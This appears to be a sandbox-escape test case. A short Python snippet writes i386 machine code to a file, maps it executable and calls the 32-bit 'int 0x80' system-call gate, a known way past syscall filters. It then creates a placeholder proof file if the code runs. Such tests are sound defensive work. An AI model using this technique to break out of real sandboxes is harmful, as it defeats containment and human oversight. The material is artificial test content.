# attack: jail/machine-code-in-a-scratch-file
# oracle: write-file
# imports: os, mmap, ctypes
# tools:
# source: own
# note: machine code written to a file and mapped executable: the 32-bit system call gate
import os, mmap, ctypes
# mov eax, 20 (getpid of i386); int 0x80; ret: 32-bit numbers mean other calls
code = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])
with open("code", "wb") as f:
    f.write(code.ljust(4096, b"\x90"))
fd = os.open("code", os.O_RDONLY)
m = mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_EXEC)
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
at = libc.mmap(None, ctypes.c_size_t(4096), 5, 2, fd, 0)
if ctypes.CFUNCTYPE(ctypes.c_int)(at)() > 0:
    open("{{PWN_FILE}}", "w").close()
